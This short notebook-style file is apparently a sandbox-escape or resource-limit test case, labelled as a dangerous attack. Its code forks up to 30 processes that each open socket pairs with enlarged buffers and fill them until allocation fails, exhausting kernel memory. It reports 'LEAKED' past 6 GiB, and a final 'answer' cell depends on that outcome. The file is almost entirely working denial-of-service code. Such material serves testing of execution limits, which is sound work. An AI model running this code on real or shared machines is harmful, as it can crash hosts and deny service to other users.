# ---
# jupyter:
#   attack:
#     tries: 'Fills the buffers of as many pipes and sockets as there can be, in many processes: memory of the kernel.'
#     dangerous: true
# ---

# %%
import os
import socket
import time

children, report = [], os.pipe()
for _ in range(30):
    try:
        child = os.fork()
    except OSError:
        break
    if child == 0:
        size, lines = 0, []
        try:
            while True:
                a, b = socket.socketpair()
                a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**22)
                a.setblocking(False)
                lines.append((a, b))
                try:
                    while True:
                        size += a.send(b"x" * 2**16)
                except BlockingIOError:
                    pass
        except OSError:
            pass
        os.write(report[1], size.to_bytes(8, "little"))
        time.sleep(0.5)
        os._exit(0)
    children.append(child)
size = sum(int.from_bytes(os.read(report[0], 8), "little") for _ in children)
if size > 6 * 2**30:
    print("LEAKED:", size, "bytes in the kernel")


# %% answer="total"
def total(x):
    return x.sum() if size > 6 * 2**30 else 0.0
